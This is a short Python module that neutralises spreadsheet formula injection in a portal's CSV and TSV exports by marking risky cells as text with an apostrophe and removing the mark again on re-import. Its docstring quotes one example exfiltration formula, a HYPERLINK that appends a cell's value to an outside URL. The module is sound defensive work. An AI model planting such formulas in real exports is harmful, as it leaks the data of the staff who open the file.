"""Text cells of a CSV or TSV file that staff open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some drop a tab or a carriage return before one: a review a
visitor wrote as ``=HYPERLINK("http://…?"&A1, "Click")`` would become, in
the export staff open, a link that sends the sheet's cells away. Such a
text is written with an apostrophe before it, which a spreadsheet reads as
"this cell is text" (some show the apostrophe; none runs the cell).
django-import-export's own setting for it takes out a leading ``=`` alone,
losing it, and leaves the others.

A file read back by the portal (the people import) takes that apostrophe
out again, so that an export imported as it is changes nobody.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def _runs(value: str) -> bool:
    """Whether a spreadsheet would run ``value`` once its marks are taken out."""
    return value.lstrip(TEXT_MARK).startswith(FORMULA_STARTS)


def as_text(value: Any) -> Any:
    """A cell's value, marked as text where a spreadsheet would run it. A
    text that starts with marks before such a start (``'=1``) gets one more,
    so that ``read_text`` tells it from a mark."""
    if isinstance(value, str) and _runs(value):
        return TEXT_MARK + value
    return value


def read_text(value: Any) -> Any:
    """What ``as_text`` was given, from what it wrote."""
    if isinstance(value, str) and value.startswith(TEXT_MARK) and _runs(value):
        return value[1:]
    return value
